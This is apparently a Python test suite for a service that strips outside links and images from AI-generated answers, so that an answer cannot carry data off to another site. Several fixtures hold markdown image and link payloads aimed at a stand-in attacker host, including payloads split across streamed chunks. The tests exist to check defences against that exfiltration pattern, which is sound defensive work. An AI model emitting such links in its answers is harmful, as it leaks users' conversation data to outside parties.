"""Links and pictures in whole answers, whoever gives them."""

from infrastructure.errors import ProviderUnavailable
from tests.agents.fakes import ScriptedModel, Service, call, calls, fails, found, match, passage, says

TEXT = "Paris is the capital of France."
LINK, IMAGE = "(outside link removed)", "(outside image removed)"


async def test_what_was_taken_out_is_no_claim_of_the_answer() -> None:
    model = ScriptedModel(says("Paris is the capital of France [1]. ![map](https://", "evil.example/?q=x)"))
    told = await Service(model, found(passage(TEXT))).ask()
    assert told.end["answer"] == told.text == f"Paris is the capital of France [1]. ![map] {IMAGE}"
    assert [citation["id"] for citation in told.end["citations"]] == [1]


async def test_what_stands_in_shows_no_picture_of_a_document_either() -> None:
    text = f"{TEXT} ![map](https://maps.example/fr.png) See [more](https://maps.example/fr)."
    service = Service(ScriptedModel(fails(ProviderUnavailable("away"))), found(passage(text)))
    told = await service.ask()
    assert told.end["model"] == "extractive"
    assert told.text.startswith(f"{TEXT} ![map] {IMAGE} See [more](https://maps.example/fr).")
    assert told.end["answer"] == told.text


async def test_a_curated_answer_is_what_was_said() -> None:
    answer = "Paris. ![map](//maps.example/fr.png) [more](https://maps.example/fr)"
    told = await Service(ScriptedModel(says("no")), found(curated=match("Capital of France?", answer, 0.99))).ask()
    assert told.end["answer"] == told.text == f"Paris. ![map] {IMAGE} [more](https://maps.example/fr)"
    assert told.end["model"] == "curated"


async def test_what_a_broken_model_began_is_not_ended_by_what_follows() -> None:
    model = ScriptedModel(
        calls(call("no_tool"), saying="One moment ![x]( "), says("https://evil.example/?q=x) and <img "),
    )  # fmt: skip
    told = await Service(model, found(passage(TEXT))).ask()
    assert told.text == "One moment ![x] ( https://evil.example/?q=x) and < img "
    assert told.end["answer"] == told.text


async def test_the_partial_answer_has_no_target_either() -> None:
    model = ScriptedModel(fails(ProviderUnavailable("away"), "See [it](https://evil.example/?q=", "x"))
    told = await Service(model, found(passage(TEXT))).ask()
    assert told.end["type"] == "error"
    assert told.end["answer"] == told.text == f"See [it] {LINK}"


async def test_the_questions_of_the_conversation_may_be_linked() -> None:
    service = Service(ScriptedModel(says("[it](https://asked.example/x)")), found(passage(TEXT)))
    for question in ("Is https://asked.example/x good?", "Where was it again?"):
        assert (await service.ask(question)).text == "[it](https://asked.example/x)"
    other = await service.ask("Where is it?", session=None)
    assert other.text == f"[it] {LINK}"
